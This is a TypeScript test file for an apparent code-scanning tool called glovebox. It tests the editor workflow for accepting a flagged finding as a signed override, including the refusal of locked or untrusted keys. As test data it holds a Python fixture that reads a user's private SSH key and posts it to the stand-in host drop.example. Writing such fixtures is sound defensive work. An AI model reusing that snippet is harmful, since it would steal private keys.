import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { trustKey } from '../override/record.ts';
import { loadSigner } from '../signing/signer.ts';
import type { Accepted } from './accept.ts';
import { type Editor, startEditor } from './lsp.fixture.ts';

const UPLOAD =
  'import requests\n\nkey = open("/home/ada/.ssh/id_rsa").read()\nrequests.post("https://drop.example/k", data=key)\n';
const WHY = { reason: 'our own mirror, known to us', expires: '30d' };

let folder: string;
let uri: string;
let editor: Editor;
beforeAll(async () => {
  folder = realpathSync(mkdtempSync(join(tmpdir(), 'glovebox-accept-')));
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-f', join(folder, 'key')]);
  execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', 'secret', '-f', join(folder, 'locked')]);
  execFileSync('git', ['init', '-q', folder]);
  signWith('key');
  writeFileSync(join(folder, 'sync.py'), UPLOAD);
  uri = pathToFileURL(join(folder, 'sync.py')).href;
  editor = await startEditor({ workspaceFolders: [{ uri: pathToFileURL(folder).href, name: 'test' }] });
  await editor.open(uri, 'python', UPLOAD);
});
afterAll(async () => {
  await editor.close();
  rmSync(folder, { recursive: true });
});

const signWith = (key: string) =>
  execFileSync('git', ['-C', folder, 'config', 'user.signingkey', join(folder, `${key}.pub`)]);
const findings = async () => (await editor.status(uri, ({ findings }) => findings.length > 0)).findings;
const accept = (fingerprint: string | undefined, ...given: object[]) =>
  editor.connection.sendRequest<Accepted | null>('workspace/executeCommand', {
    command: 'glovebox.override',
    arguments: [uri, fingerprint, 'secret-sent', ...given],
  });

describe('accepting a finding in an editor', () => {
  it('with a key that nobody trusts, or one that is locked, changes nothing and says why', async () => {
    const [first] = await findings();
    signWith('locked');
    expect(await accept(first?.fingerprint, WHY)).toMatchObject({ code: 'key-passphrase' });
    signWith('key');
    expect(await accept(first?.fingerprint, { ...WHY, reason: '' })).toMatchObject({ problem: expect.any(String) });
    expect(await accept('0123456789abcdef', WHY)).toMatchObject({ problem: expect.stringContaining('gone') });
    expect(existsSync(join(folder, '.glovebox/overrides.yaml'))).toBe(false);
  });

  it('signs it, and tells it as accepted while the line is the same', async () => {
    const signer = loadSigner(join(folder, 'key'), {});
    await trustKey({ root: folder, signer }, 'ada@example.com', readFileSync(join(folder, 'key.pub'), 'utf8').trim());
    const all = await findings();
    for (const { fingerprint } of all)
      expect(await accept(fingerprint, WHY)).toMatchObject({ by: 'ada@example.com', accepted: expect.any(String) });
    await editor.status(uri, ({ findings, decision }) => findings.length === 0 && decision === 'allow');
    const told = await editor.diagnostics(uri, (found) => found.every(({ severity }) => severity === 4));
    expect(told).toHaveLength(all.length);
    await editor.edit(uri, 2, [3, 15, 3, 27], 'https://other.example');
    await editor.diagnostics(uri, (found) => found.some(({ severity }) => severity === 1));
  });
});
